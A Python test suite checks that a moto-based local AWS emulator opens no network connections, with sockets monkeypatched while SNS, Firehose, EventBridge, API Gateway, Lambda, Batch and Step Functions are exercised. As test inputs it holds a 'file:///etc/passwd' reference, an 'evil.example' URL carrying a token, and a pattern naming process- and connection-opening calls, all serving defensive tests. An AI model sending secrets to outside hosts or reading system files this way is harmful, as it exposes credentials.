"""moto opens no connection: every service of it that could is tried while sockets are watched."""

from __future__ import annotations

import ast
import io
import json
import re
import socket
import time
import urllib.error
import urllib.request
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import boto3  # type: ignore[import-untyped]
import moto
import pytest
from botocore.config import Config  # type: ignore[import-untyped]
from botocore.exceptions import ClientError  # type: ignore[import-untyped]

from mwaa_tf.local_aws import LocalAws
from mwaa_tf.local_aws.outgoing import host_of, refused

ACCOUNT = "111111111111"
HOOK = "http://user:hunter2@hooks.example.com/services/T0/B0/token"
TRUST = json.dumps(
    {"Statement": [{"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}]}
)


@pytest.fixture(scope="module")
def opened() -> Iterator[list[str]]:
    """Where to connections were opened, except to this machine's ports; such a connection fails."""
    addresses: list[str] = []
    connect, look_up = socket.socket.connect, socket.getaddrinfo

    def watched(self: socket.socket, address: Any) -> None:
        if isinstance(address, tuple) and address[0] == "127.0.0.1":
            return connect(self, address)
        addresses.append(str(address))
        raise ConnectionRefusedError(address)

    def watched_name(host: Any, port: Any, *arguments: Any, **options: Any) -> Any:
        if host != "127.0.0.1":
            addresses.append(str(host))
            raise socket.gaierror(host)
        return look_up(host, port, *arguments, **options)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(socket.socket, "connect", watched)
        patch.setattr(socket, "getaddrinfo", watched_name)
        # What would make moto send events, and a Docker that would be called over TCP.
        patch.setenv("MOTO_EVENTS_INVOKE_HTTP", "true")
        patch.setenv("DOCKER_HOST", "tcp://docker.example.com:2375")
        yield addresses


@pytest.fixture(scope="module")
def aws(opened: list[str]) -> Iterator[LocalAws]:
    with LocalAws([ACCOUNT], region="us-east-1") as running:
        yield running
        assert running.failures == ()
    assert opened == []


@pytest.fixture
def client(aws: LocalAws) -> Callable[[str], Any]:
    return lambda service: aws.client(service, ACCOUNT)


Client = Callable[[str], Any]


def undelivered(caplog: pytest.LogCaptureFixture) -> list[str]:
    return [record.getMessage() for record in caplog.records if record.name == "mwaa_tf.local_aws.outgoing"]


def role(client: Client) -> str:
    iam = client("iam")
    name = f"role-{time.monotonic_ns()}"
    return str(iam.create_role(RoleName=name, AssumeRolePolicyDocument=TRUST)["Role"]["Arn"])


def function(client: Client) -> str:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as code:
        code.writestr("lambda_function.py", "def handler(event, context): return 1")
    return str(
        client("lambda").create_function(
            FunctionName=f"function-{time.monotonic_ns()}",
            Runtime="python3.12",
            Role=role(client),
            Handler="lambda_function.handler",
            Code={"ZipFile": archive.getvalue()},
        )["FunctionArn"]
    )


@pytest.mark.parametrize("protocol", ["http", "https"])
def test_a_topic_sends_nothing_to_a_web_address(
    client: Client, opened: list[str], caplog: pytest.LogCaptureFixture, protocol: str
) -> None:
    sns = client("sns")
    topic = sns.create_topic(Name=f"alarms-{protocol}")["TopicArn"]
    sns.subscribe(TopicArn=topic, Protocol=protocol, Endpoint=HOOK.replace("http", protocol, 1))
    assert sns.publish(TopicArn=topic, Message="an alarm")["MessageId"]
    assert undelivered(caplog) == [
        f"SNS topic {topic}: nothing was delivered to hooks.example.com: the local AWS opens no connections"
    ]
    assert opened == []


def test_a_topic_still_sends_to_queues(client: Client) -> None:
    sns, sqs = client("sns"), client("sqs")
    topic = sns.create_topic(Name="to-a-queue")["TopicArn"]
    url = sqs.create_queue(QueueName="messages")["QueueUrl"]
    queue = sqs.get_queue_attributes(QueueUrl=url, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
    sns.subscribe(TopicArn=topic, Protocol="sqs", Endpoint=queue)
    sns.publish(TopicArn=topic, Message="an alarm")
    assert "an alarm" in sqs.receive_message(QueueUrl=url)["Messages"][0]["Body"]


def test_a_stream_delivers_nothing_to_a_web_address(
    client: Client, opened: list[str], caplog: pytest.LogCaptureFixture
) -> None:
    bucket = {"RoleARN": role(client), "BucketARN": "arn:aws:s3:::backup"}
    firehose = client("firehose")
    firehose.create_delivery_stream(
        DeliveryStreamName="logs",
        HttpEndpointDestinationConfiguration={
            "EndpointConfiguration": {"Url": HOOK.replace("http", "https", 1)},
            "S3Configuration": bucket,
        },
    )
    assert firehose.put_record(DeliveryStreamName="logs", Record={"Data": b"a line"})["RecordId"]
    assert ["hooks.example.com" in line and "hunter2" not in line for line in undelivered(caplog)] == [True]
    assert opened == []


def test_a_rule_sends_nothing_to_an_api_destination(
    client: Client, opened: list[str], caplog: pytest.LogCaptureFixture
) -> None:
    events = client("events")
    connection = events.create_connection(
        Name="hook",
        AuthorizationType="API_KEY",
        AuthParameters={"ApiKeyAuthParameters": {"ApiKeyName": "key", "ApiKeyValue": "value"}},
    )["ConnectionArn"]
    destination = events.create_api_destination(
        Name="hook", ConnectionArn=connection, InvocationEndpoint=HOOK, HttpMethod="POST"
    )["ApiDestinationArn"]
    events.put_rule(Name="all", EventPattern=json.dumps({"source": ["etl"]}))
    events.put_targets(Rule="all", Targets=[{"Id": "1", "Arn": destination, "RoleArn": role(client)}])
    events.put_events(Entries=[{"Source": "etl", "DetailType": "done", "Detail": "{}"}])
    assert undelivered(caplog)[0].startswith("EventBridge: nothing was delivered")
    assert opened == []


@pytest.mark.parametrize("reference", ["http://evil.example/schema.json", "file:///etc/passwd", "other.json#/a"])
def test_an_api_document_is_not_completed_from_other_places(client: Client, opened: list[str], reference: str) -> None:
    document = {
        "openapi": "3.0.0",
        "info": {"title": "api", "version": "1", "description": "d"},
        "paths": {
            "/a": {
                "get": {
                    "responses": {
                        "200": {"description": "ok", "content": {"application/json": {"schema": {"$ref": reference}}}}
                    }
                }
            }
        },
    }
    with pytest.raises(ClientError, match="Invalid reference") as refused:
        client("apigateway").import_rest_api(failOnWarnings=True, body=json.dumps(document).encode())
    assert refused.value.response["Error"]["Code"] == "BadRequestException"
    assert opened == []


def test_an_api_calls_no_integration(
    aws: LocalAws, client: Client, opened: list[str], caplog: pytest.LogCaptureFixture
) -> None:
    from moto.apigateway.integration_parsers.aws_parser import TypeAwsParser
    from moto.apigateway.integration_parsers.http_parser import TypeHttpParser
    from moto.apigateway.models import Integration

    gateway = client("apigateway")
    api = gateway.create_rest_api(name="proxy")["id"]
    root = gateway.get_resources(restApiId=api)["items"][0]["id"]
    gateway.put_method(restApiId=api, resourceId=root, httpMethod="GET", authorizationType="NONE")
    gateway.put_integration(
        restApiId=api, resourceId=root, httpMethod="GET", type="HTTP", uri=HOOK, integrationHttpMethod="GET"
    )
    gateway.create_deployment(restApiId=api, stageName="prod")
    proxy = urllib.request.build_opener(urllib.request.ProxyHandler({"http": f"http://{aws.address}"}))
    with pytest.raises(urllib.error.HTTPError) as refused:
        proxy.open(f"http://{api}.execute-api.us-east-1.amazonaws.com/prod/", timeout=60)
    refused.value.close()
    assert refused.value.code == 403
    # moto's server does not route to these two; its decorators do.
    for parser in (TypeAwsParser, TypeHttpParser):
        integration = Integration("HTTP", HOOK, "GET")
        assert parser().invoke(None, integration)[0] == 504  # type: ignore[arg-type]
    assert len(undelivered(caplog)) == 2
    assert opened == []


def test_a_function_does_not_run(client: Client, opened: list[str], caplog: pytest.LogCaptureFixture) -> None:
    arn = function(client)
    functions = client("lambda")
    with pytest.raises(ClientError, match="the local AWS runs no Lambda functions") as refused:
        functions.invoke(FunctionName=arn)
    assert refused.value.response["Error"]["Code"] == "NotInLocalAws"
    assert functions.invoke(FunctionName=arn, InvocationType="Event")["StatusCode"] == 202
    assert len(undelivered(caplog)) == 1
    assert arn.rpartition(":")[2] in undelivered(caplog)[0]
    assert opened == []


def test_events_for_a_function_come_to_nothing(
    client: Client, opened: list[str], caplog: pytest.LogCaptureFixture
) -> None:
    arn = function(client)
    s3, sns, logs = client("s3"), client("sns"), client("logs")
    s3.create_bucket(Bucket="with-notifications")
    configuration = {"LambdaFunctionArn": arn, "Events": ["s3:ObjectCreated:*"]}
    s3.put_bucket_notification_configuration(
        Bucket="with-notifications", NotificationConfiguration={"LambdaFunctionConfigurations": [configuration]}
    )
    s3.put_object(Bucket="with-notifications", Key="dag.py", Body=b"1")
    topic = sns.create_topic(Name="to-a-function")["TopicArn"]
    sns.subscribe(TopicArn=topic, Protocol="lambda", Endpoint=arn)
    sns.publish(TopicArn=topic, Message="an alarm")
    logs.create_log_group(logGroupName="lines")
    logs.create_log_stream(logGroupName="lines", logStreamName="1")
    logs.put_subscription_filter(logGroupName="lines", filterName="all", filterPattern="", destinationArn=arn)
    event = {"timestamp": int(time.time() * 1000), "message": "a line"}
    logs.put_log_events(logGroupName="lines", logStreamName="1", logEvents=[event])
    assert len([line for line in undelivered(caplog) if line.startswith("Lambda: ")]) >= 3
    assert opened == []


def test_a_secret_is_not_rotated_by_a_function_that_runs(client: Client, opened: list[str]) -> None:
    secrets = client("secretsmanager")
    secrets.create_secret(Name="password", SecretString="old")
    secrets.rotate_secret(
        SecretId="password", RotationLambdaARN=function(client), RotationRules={"AutomaticallyAfterDays": 9}
    )
    assert opened == []


def test_a_job_fails_with_the_reason(client: Client, opened: list[str]) -> None:
    batch = client("batch")
    environment = batch.create_compute_environment(
        computeEnvironmentName="computers", type="UNMANAGED", state="ENABLED", serviceRole=role(client)
    )["computeEnvironmentArn"]
    queue = batch.create_job_queue(
        jobQueueName="q",
        state="ENABLED",
        priority=1,
        computeEnvironmentOrder=[{"order": 1, "computeEnvironment": environment}],
    )["jobQueueArn"]
    container = {"image": "busybox", "vcpus": 1, "memory": 128, "command": ["true"]}
    definition = batch.register_job_definition(
        jobDefinitionName="definition", type="container", containerProperties=container
    )["jobDefinitionArn"]
    job_id = batch.submit_job(jobName="job", jobQueue=queue, jobDefinition=definition)["jobId"]
    deadline = time.monotonic() + 60
    while (job := batch.describe_jobs(jobs=[job_id])["jobs"][0])["status"] != "FAILED":
        assert time.monotonic() < deadline
        time.sleep(0.05)
    assert job["statusReason"] == "the local AWS runs no containers"
    assert opened == []


def test_a_state_machine_calls_nothing(client: Client, opened: list[str]) -> None:
    states = client("stepfunctions")
    task = {
        "Type": "Task",
        "Resource": "arn:aws:states:::http:invoke",
        "Parameters": {"ApiEndpoint": HOOK, "Method": "GET"},
        "End": True,
    }
    machine = states.create_state_machine(
        name="m", roleArn=role(client), definition=json.dumps({"StartAt": "call", "States": {"call": task}})
    )["stateMachineArn"]
    states.start_execution(stateMachineArn=machine)
    assert opened == []


def test_a_connection_that_is_not_known_here_ends_the_call(
    aws: LocalAws, opened: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def connecting(*_: object) -> None:
        urllib.request.urlopen("http://evil.example/?token=hunter2", timeout=5)

    monkeypatch.setattr("moto.sqs.responses.SQSResponse.list_queues", connecting)
    environment = aws.environment(ACCOUNT)
    sqs = boto3.client(
        "sqs",
        region_name="us-east-1",
        endpoint_url=aws.endpoint,
        aws_access_key_id=environment["AWS_ACCESS_KEY_ID"],
        aws_secret_access_key=environment["AWS_SECRET_ACCESS_KEY"],
        config=Config(proxies={"http": f"http://{aws.address}"}),
    )
    with pytest.raises(ClientError, match=r"needs a connection to evil\.example:80") as refused:
        sqs.list_queues()
    assert refused.value.response["Error"]["Code"] == "NotInLocalAws"
    assert "hunter2" not in str(refused.value)
    assert opened == []


@pytest.mark.usefixtures("aws")
def test_connections_of_others_in_the_process_are_opened(opened: list[str]) -> None:
    with pytest.raises(socket.gaierror):
        socket.create_connection(("198.51.100.1", 80), timeout=1)
    assert opened == ["198.51.100.1"]
    opened.clear()


def test_sockets_are_as_before_once_it_has_stopped() -> None:
    before = socket.socket.connect, socket.socket.connect_ex, socket.getaddrinfo
    with refused():
        assert socket.socket.connect is not before[0]
    assert (socket.socket.connect, socket.socket.connect_ex, socket.getaddrinfo) == before


def test_of_a_web_address_only_the_host_is_named() -> None:
    assert host_of(HOOK) == "hooks.example.com"
    assert host_of("https://[2001:db8::1]:8443/x?t=1") == "2001:db8::1"
    assert host_of("the function etl") == "the function etl"


MODULES = {
    "aiohttp",
    "boto3",
    "docker",
    "http",
    "httpx",
    "multiprocessing",
    "openapi_spec_validator",
    "requests",
    "smtplib",
}
MODULES |= {"socket", "ssl", "subprocess", "telnetlib", "urllib3"}
"""What opens connections, starts processes, or reads what a document refers to."""

TYPES_ONLY = {
    "boto3.Session",
    "boto3.dynamodb.types",
    "http.client.responses",
    "requests.PreparedRequest",
    "requests.models.PreparedRequest",
    "requests.structures.CaseInsensitiveDict",
}
"""Imports that open nothing: `Session` is for the names of regions."""

KNOWN = {
    "apigateway/integration_parsers/aws_parser.py": "services/apigateway replaces its only method",
    "apigateway/integration_parsers/http_parser.py": "services/apigateway replaces its only method",
    "apigateway/integration_parsers/unknown_parser.py": "raises NotImplementedError",
    "apigateway/models.py": "services/apigateway refuses references to other documents",
    "awslambda/models.py": "services/awslambda runs no function",
    "batch/models.py": "services/batch runs no job",
    "core/authorization.py": "a decorator of tests, for a server of their own",
    "core/models.py": "decorators of tests, for a server of their own",
    "events/models.py": "services/events sends nothing to API destinations",
    "firehose/models.py": "services/firehose sends nothing to HTTP endpoints",
    "iam/config.py": "the names of regions",
    "moto_api/_internal/recorder/models.py": "the local AWS does not serve /moto-api",
    "moto_proxy/certificate_creator.py": "moto's own proxy, which the local AWS does not use",
    "moto_proxy/proxy3.py": "moto's own proxy, which the local AWS does not use",
    "proxy.py": "moto's own proxy, which the local AWS does not use",
    "settings.py": "asks Docker for the address of functions and jobs, which do not run",
    "sns/models.py": "services/sns sends nothing to HTTP endpoints",
    "stepfunctions/parser/asl/component/state/exec/state_task/service/state_task_service_api_gateway.py": "not run",
    "stepfunctions/parser/asl/component/state/exec/state_task/service/state_task_service_glue.py": "not run",
    "stepfunctions/parser/asl/utils/boto_client.py": "moto runs a state machine only if its configuration says so",
    "utilities/docker_utilities.py": "services/awslambda and services/batch, the only ones with containers, run none",
}


def test_every_file_of_moto_that_could_open_a_connection_is_known() -> None:
    root = Path(moto.__file__).parent
    found = {str(file.relative_to(root)) for file in root.rglob("*.py") if opens_connections(file)}
    assert found == KNOWN.keys()


def opens_connections(file: Path) -> bool:
    text = file.read_text(encoding="utf-8")
    if not re.search(rf"\b(?:{'|'.join(MODULES)}|urllib\.request)\b|\bos\.(?:popen|system|execv|spawnv)\b", text):
        return False
    for node in ast.walk(ast.parse(text)):
        match node:
            case ast.Import(names=aliases):
                names = {alias.name for alias in aliases}
            case ast.ImportFrom(module=str(module), level=0, names=aliases):
                names = {f"{module}.{alias.name}" for alias in aliases} - TYPES_ONLY
                names = set() if module in TYPES_ONLY else names
            case ast.Attribute(value=ast.Name(id="os"), attr="popen" | "system" | "execv" | "spawnv"):
                return True
            case _:
                continue
        if any(name.split(".")[0] in MODULES or name.startswith("urllib.request") for name in names):
            return True
    return False
